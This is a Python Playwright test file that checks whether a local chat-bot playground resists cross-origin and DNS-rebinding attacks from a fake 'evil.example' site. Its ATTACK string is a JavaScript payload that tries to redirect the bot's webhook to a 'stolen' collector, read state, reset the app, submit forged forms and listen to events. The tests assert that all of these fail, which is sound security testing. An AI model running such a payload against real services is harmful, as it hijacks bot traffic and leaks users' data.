"""The playground in a real Chromium, while a page of elsewhere is open in the same browser."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, BrowserContext, Page, expect

from bot.playground import Playground, demo_world
from bot.playground.model import ChatType
from tests.browser import chromium, window
from tests.playground.page_visit import PHONE, Visit
from tests.ports import free_port

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

REBOUND = "--host-resolver-rules=MAP evil.example 127.0.0.1"
ATTACK = """async ({ target, token }) => {
    const read = [];
    const hook = encodeURIComponent("http://127.0.0.1:9/stolen");
    const sent = { method: "POST", credentials: "include", body: '{"advance": 3600}' };
    const calls = [
        [`/bot${token}/setWebhook?url=${hook}`, {}],
        [`/bot${token}/getUpdates`, {}],
        [`/bot${token}/setWebhook`, { method: "POST", body: new URLSearchParams(`url=${hook}`) }],
        ["/", {}], ["/playground/state", {}], ["/playground/messages?chat=103", {}],
        ["/playground/clock", sent], ["/playground/reset", sent],
        ["/playground/clock", { ...sent, headers: { "content-type": "application/json" } }],
    ];
    const seen = (path) => async (answer) => {
        if (answer.type !== "opaque") read.push([path, await answer.text()]);
    };
    for (const mode of ["cors", "no-cors"])
        for (const [path, options] of calls)
            await fetch(target + path, { credentials: "include", mode, ...options })
                .then(seen(path), () => {});
    const settled = (node, url) => new Promise((done) => {
        node.onload = () => { done(true); };
        node.onerror = () => { done(false); };
        node.src = url;
        document.body.append(node);
        setTimeout(done, 3000);
    });
    const embedded = [];
    const parts = [["script", "/static/api.js"], ["img", "/static/icon.svg"], ["img", `/bot${token}/close`]];
    for (const [tag, path] of parts)
        if (await settled(document.createElement(tag), target + path)) embedded.push(path);
    const frame = document.createElement("iframe");
    await settled(frame, target + "/");
    const form = Object.assign(document.createElement("form"), {
        method: "post", enctype: "text/plain", action: `${target}/bot${token}/sendMessage`, target: "sunk",
    });
    Object.assign(frame, { name: "sunk" });
    document.body.append(form);
    form.submit();
    const source = new EventSource(target + "/playground/events", { withCredentials: true });
    const heard = await new Promise((done) => {
        source.onopen = () => { done(true); };
        source.onerror = () => { done(false); };
    });
    source.close();
    return { read, embedded, heard };
}"""


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with chromium(REBOUND) as started:
        yield started


@pytest_asyncio.fixture(loop_scope="module")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    async with window(browser, *PHONE, has_touch=True, is_mobile=True, locale="en-GB") as opened:
        yield opened


def made() -> Playground:
    return Playground(build=demo_world, limits=False)


@asynccontextmanager
async def evil_site() -> AsyncIterator[int]:
    """A web server of somebody else's; it yields its port."""

    async def page(request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>Free rice</title>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


async def opened(context: BrowserContext, address: str) -> Page:
    page = await context.new_page()
    await page.goto(address)
    await page.wait_for_selector(".sample")
    return page


async def posted(page: Page, play: Playground) -> list[str]:
    """Tap a sample, and what then stands in the group."""
    await page.click(".start .others summary")
    await page.click('.start [data-sample="account_zh_2"]')
    await expect(page.locator(".mine .text")).to_have_count(1)
    group = next(chat for chat in play.world.chats.values() if chat.kind is ChatType.SUPERGROUP)
    return [post.text for post in group.posts.values() if post.text]


@pytest.mark.parametrize("name", ["evil.example", "127.0.0.1"])
async def test_a_page_of_elsewhere_reads_nothing_and_does_nothing(context: BrowserContext, name: str) -> None:
    play = made()
    async with play.serve() as target, evil_site() as port:
        await opened(context, target)
        page = await context.new_page()
        await page.goto(f"http://{name}:{port}/")
        before = play.world
        outcome = await page.evaluate(ATTACK, {"target": target, "token": play.token})
        await page.wait_for_timeout(300)
        assert outcome == {"read": [], "embedded": [], "heard": False}
        assert play.world is before
        assert (before.hook, before.journal, before.clock.offset) == (None, [], 0)


async def test_a_name_bound_to_this_machine_shows_no_page(context: BrowserContext) -> None:
    play = made()
    async with play.serve() as target:
        await opened(context, target)
        page = await context.new_page()
        answer = await page.goto(target.replace("127.0.0.1", "evil.example"))
        assert answer is not None
        assert answer.status == 400
        assert play.key not in str(await context.cookies("http://evil.example"))


async def test_the_plain_address_opens_it_also_from_a_link_elsewhere(context: BrowserContext) -> None:
    play = made()
    async with play.serve() as target, evil_site() as port:
        page = await context.new_page()
        await page.goto(f"http://evil.example:{port}/")
        await page.evaluate("(to) => { location.href = to; }", target)
        await page.wait_for_selector(".sample")
        visit = Visit(page)
        assert await posted(page, play) == ["高价收微信号，闲置小号换零花钱，日结"]
        assert await visit.overflow() <= 0
        assert visit.faults == []


async def test_beyond_this_machine_the_printed_address_opens_it_and_hides_its_key(
    context: BrowserContext,
) -> None:
    play = made()
    async with play.serve("0.0.0.0") as target:
        page = await context.new_page()
        answer = await page.goto(target)
        assert answer is not None
        assert (answer.status, ".sample" in await page.content()) == (403, False)
        page = await opened(context, play.entrance(target))
        assert page.url == f"{target}/"
        assert play.key not in str(
            await page.evaluate("[document.cookie, history.length, document.referrer]")
        )
        assert await posted(page, play) == ["高价收微信号，闲置小号换零花钱，日结"]


async def test_a_page_left_open_goes_on_when_the_playground_is_started_anew(context: BrowserContext) -> None:
    port, play = free_port(), made()
    async with made().serve(port=port) as target:
        page = await opened(context, target)
    await expect(page.locator("#offline")).to_be_visible()
    loaded = asyncio.ensure_future(page.wait_for_event("load"))
    async with play.serve(port=port):
        await loaded
        await page.wait_for_selector(".sample")
        await expect(page.locator("#offline")).to_be_hidden()
        assert await posted(page, play) == ["高价收微信号，闲置小号换零花钱，日结"]
